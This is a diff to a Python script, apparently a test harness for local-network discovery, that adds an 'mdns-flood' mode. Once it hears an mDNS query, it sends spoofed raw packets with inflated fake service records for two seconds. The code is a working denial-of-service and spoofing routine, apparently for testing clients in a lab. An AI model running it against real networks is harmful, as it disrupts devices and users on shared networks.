@@ -9,6 +9,7 @@ import re
 import socket
 import struct
 import sys
+import time
 
 OUTSIDE = "10.77.1.9"
 GHOST = "10.77.0.99"
@@ -139,7 +140,33 @@ def spoofed(source: str, to: str, port: int, payload: bytes) -> bytes:
     return head + socket.inet_aton(source) + socket.inet_aton(to) + datagram
 
 
+def mdns_flood(address: str) -> None:
+    """Once it is asked anything by mDNS, answers for two seconds as fast as it can, in the name of everybody."""
+    heard = hear("224.0.0.251", 5353, address)
+    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
+    sources = [*(f"10.77.0.{n}" for n in range(100, 250)), *(f"192.0.2.{n}" for n in range(150)), address]
+    packets = []
+    for number in range(900):
+        own = name(f"Flood {number}", "_http", "_tcp", "local")
+        records = record(name("_http", "_tcp", "local"), 12, own) + record(own, 16, b"\x07model=X" * 100)
+        packet = b"\0\0\x84\0\0\0\0\2\0\0\0\0" + records
+        # To who asked and, at times, to all: on one wire of this machine that makes the most of a flood.
+        to = "224.0.0.251" if number % 20 == 0 else "10.77.0.2"
+        packets.append((spoofed(sources[number % len(sources)], to, 5353, packet), (to, 0)))
+    while True:
+        packet, source = heard.recvfrom(9000)
+        if len(packet) > 3 and not packet[2] & 0x80 and source[0] == "10.77.0.2":
+            until, count = time.monotonic() + 2, 0
+            while time.monotonic() < until:
+                for each, to in packets:
+                    sender.sendto(each, to)
+                count += len(packets)
+            print(f"{count / 2:,.0f} answers a second", file=sys.stderr, flush=True)
+
+
 KINDS = {
+    "mdns-flood": mdns_flood,
     "mdns-ghost": mdns_ghost,
     "knx": knx,
     "onvif": onvif,
